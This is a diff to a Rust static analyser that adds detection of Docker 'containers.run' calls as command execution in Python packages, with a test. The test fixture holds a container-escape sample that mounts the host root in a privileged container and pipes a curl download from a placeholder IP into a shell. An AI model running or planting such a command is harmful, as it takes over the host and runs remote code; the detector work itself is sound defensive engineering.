@@ -47,6 +47,7 @@ pub fn is_spawn(qualname: &str) -> bool {
             | "win32api.ShellExecute"
     ) || is_pip_main(q)
         || is_libc_command(q)
+        || is_container_run(q)
         || (q.starts_with("subprocess.")
             && matches!(
                 q.trim_start_matches("subprocess."),
@@ -70,6 +71,12 @@ fn is_libc_command(qualname: &str) -> bool {
             qualname.rsplit('.').next(),
             Some("system" | "popen" | "_popen" | "_wsystem")
         )
+}
+
+/// `docker.from_env().containers.run(image, command, …)`: the command runs in a container,
+/// which with the host's root mounted or `privileged=True` is the host.
+fn is_container_run(qualname: &str) -> bool {
+    qualname.starts_with("docker.") && qualname.ends_with("containers.run")
 }
 
 /// pip's command-line entry point called in-process (`pip.main(['install', …])`): the same
@@ -103,6 +110,7 @@ fn argv_position(qualname: &str) -> Option<Argv> {
         | "ctypes.windll.shell32.ShellExecuteA"
         | "win32api.ShellExecute" => Some(Argv::ProgramAndParameters(2)),
         "Shell.Application.ShellExecute" => Some(Argv::ProgramAndParameters(0)),
+        _ if is_container_run(qualname) => Some(Argv::List(1)),
         _ => None,
     }
 }
@@ -1353,6 +1361,14 @@ mod tests {
     #![allow(clippy::expect_used)]
     use super::*;
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn a_container_run_runs_its_command() {
+        let escape = "import docker\ndocker.from_env().containers.run('alpine', \"chroot /host sh -c 'curl -s http://198.51.100.9/k | sh'\", privileged=True, volumes={'/': {'bind': '/host'}})\n";
+        assert!(max_severity("p/pkg/__init__.py", escape, "WH120") >= 0.8);
+        let tests = "import docker\ndef run():\n    return docker.from_env().containers.run('postgres:16', detach=True)\n";
+        assert!(max_severity("p/pkg/fixtures.py", tests, "WH120") < 0.2);
+    }
 
     #[test]
     fn the_c_librarys_system_through_ctypes_runs_a_command() {
